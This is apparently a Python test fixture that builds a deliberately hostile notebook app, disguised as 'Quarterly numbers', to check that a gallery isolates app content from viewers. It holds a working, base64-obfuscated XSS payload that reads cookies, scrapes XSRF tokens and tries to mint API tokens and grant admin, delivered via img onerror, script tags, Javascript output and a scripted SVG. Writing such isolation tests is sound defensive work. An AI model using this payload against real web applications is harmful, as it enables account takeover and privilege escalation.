"""An approved app that attacks its viewers (issue 10, DESIGN.md decision 8): a test fixture.

Every way app content runs script in a viewer's browser carries the same attack:

- a markdown cell with raw HTML (``<img src=x onerror=...>``),
- an HTML output with a ``<script>`` element,
- an ``IPython.display.Javascript()`` output,
- an SVG file shipped with the app (``voila/files/attack.svg``), embedded (``<img>``,
  ``<object>``, ``<iframe>``) and opened by itself.

The attack (:data:`ATTACK_JS`) reads the gallery's cookies (its own and the framing page's),
calls ``/api/me`` with credentials, and tries to make its author an admin and to create an API
token as the viewer, through the JSON API and through the gallery's own forms, without an XSRF
value, with one found in the cookies or scraped from a gallery page, and with the author's own
(baked into the notebook). It writes what it saw into ``<pre id="attack-<vector>">`` so the test
can read it; the test then checks the server's state. The same code run on the gallery's origin
(the test's positive control) does succeed: the attack is real, the isolation is what stops it.

The app also has a slider whose output the kernel recomputes, to show the app still works.
"""
from __future__ import annotations

import base64
import json

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.nbfactory import make_notebook

VECTORS = ("markdown-onerror", "html-script", "javascript-output")
SVG_NAME = "attack.svg"

ATTACK_JS = r"""
(async function (vector, victim, baked) {
  const out = {vector: vector, origin: String(self.origin)};
  const base = location.pathname.split(/\/apps?\//)[0] + "/";  // the gallery's base URL
  try { out.cookie = String(document.cookie); } catch (e) { out.cookie = "ERR " + e.name; }
  try { out.parentCookie = String(window.parent.document.cookie); }
  catch (e) { out.parentCookie = "ERR " + e.name; }
  try { out.topTitle = String(window.top.document.title); }
  catch (e) { out.topTitle = "ERR " + e.name; }
  const attempt = async (name, url, init) => {
    try {
      const r = await fetch(url, Object.assign({credentials: "include"}, init || {}));
      let text = "";
      try { text = await r.text(); } catch (e) { text = "ERR " + e.name; }
      out[name] = {status: r.status, type: r.type, body: text.slice(0, 300)};
    } catch (e) { out[name] = {error: String(e)}; }
  };
  await attempt("me", base + "api/me");
  await attempt("me_nocors", base + "api/me", {mode: "no-cors"});
  const xsrfs = ["", baked];
  const fromCookie = String(out.cookie).match(/_xsrf=([^;]+)/);
  if (fromCookie) xsrfs.push(fromCookie[1]);
  try {
    const page = await (await fetch(base + "account", {credentials: "include"})).text();
    const found = page.match(/name="_xsrf" value="([^"]+)"/);
    out.scraped = found ? found[1] : "";
    if (found) xsrfs.push(found[1]);
  } catch (e) { out.scraped = "ERR " + e.name; }
  for (let i = 0; i < xsrfs.length; i++) {
    const x = xsrfs[i];
    const label = "pwned-" + vector + "-" + i;
    await attempt("token_json_" + i, base + "api/me/tokens", {method: "POST",
      headers: {"Content-Type": "application/json", "X-XSRFToken": x},
      body: JSON.stringify({label: label})});
    await attempt("token_simple_" + i, base + "api/me/tokens", {method: "POST",
      mode: "no-cors", headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({label: label, _xsrf: x})});
    await attempt("token_form_" + i, base + "account/tokens", {method: "POST",
      mode: "no-cors", body: new URLSearchParams({label: label, _xsrf: x})});
    await attempt("role_api_" + i, base + "api/users/" + victim, {method: "PATCH",
      headers: {"Content-Type": "application/json", "X-XSRFToken": x},
      body: JSON.stringify({role: "admin"})});
    await attempt("role_form_" + i, base + "admin/users/" + victim, {method: "POST",
      mode: "no-cors", body: new URLSearchParams({role: "admin", _xsrf: x})});
  }
  out.tried = xsrfs.length;
  const pre = document.createElement("pre");
  pre.id = "attack-" + vector;
  pre.hidden = true;
  pre.textContent = JSON.stringify(out);
  (document.body || document.documentElement).appendChild(pre);
  return out;
})
"""


def _call(vector: str, victim: str, baked: str) -> str:
    """JS that runs :data:`ATTACK_JS` for ``vector`` (self-contained, single quotes only)."""
    code = base64.b64encode(ATTACK_JS.encode()).decode()
    return f"eval(atob('{code}'))('{vector}', '{victim}', '{baked}')"


def svg_file() -> bytes:
    """An SVG whose script marks the document and calls ``/api/me`` (must never run)."""
    script = ("document.documentElement.setAttribute('data-attack', 'ran');"
              "fetch(location.pathname.split('/apps/')[0] + '/api/me', {credentials: 'include'})"
              ".then(r => r.text()).then(t => document.documentElement"
              ".setAttribute('data-me', t.slice(0, 100)));")
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">'
            '<rect width="120" height="40" fill="#c00"/>'
            f"<script>{script}</script></svg>").encode()


def attack_notebook(victim: str, baked_xsrf: str) -> nbformat.NotebookNode:
    """The attacking app: ``victim`` is the account it tries to make admin (its author)."""
    onerror = _call("markdown-onerror", victim, baked_xsrf).replace('"', "&quot;")
    markdown = (
        "## Quarterly numbers\n\n"
        f'<img src="does-not-exist.png" alt="" onerror="{onerror}">\n\n'
        f'<img id="svg-img" src="voila/files/{SVG_NAME}" alt="chart">\n'
        f'<object id="svg-object" data="voila/files/{SVG_NAME}" type="image/svg+xml"></object>\n'
        f'<iframe id="svg-iframe" src="voila/files/{SVG_NAME}" title="chart"></iframe>\n'
    )
    script = _call("html-script", victim, baked_xsrf)
    javascript = _call("javascript-output", victim, baked_xsrf)
    nb = make_notebook(
        params="step = 3  # step of the counter\n",
        widget=("import ipywidgets as w\n"
                "s = w.IntSlider(value=step, min=0, max=10, description='Step')\n"
                "o = w.Output()\n"
                "def show(change=None):\n"
                "    o.clear_output()\n"
                "    with o:\n"
                "        print(f'SQUARE {s.value * s.value}')\n"
                "s.observe(show, 'value')\n"
                "show()\n"
                "w.VBox([s, o])"),
        meta={"title": "Quarterly numbers", "description": "Looks harmless.",
              "files": [SVG_NAME]},
    )
    nb.cells += [
        new_markdown_cell(markdown, metadata={"tags": ["widget"]}),
        new_code_cell("from IPython.display import HTML, Javascript, display\n"
                      f"display(HTML({json.dumps('<script>' + script + '</script>')}))\n"
                      f"display(Javascript({json.dumps(javascript)}))",
                      metadata={"tags": ["widget"]}),
    ]
    return nb
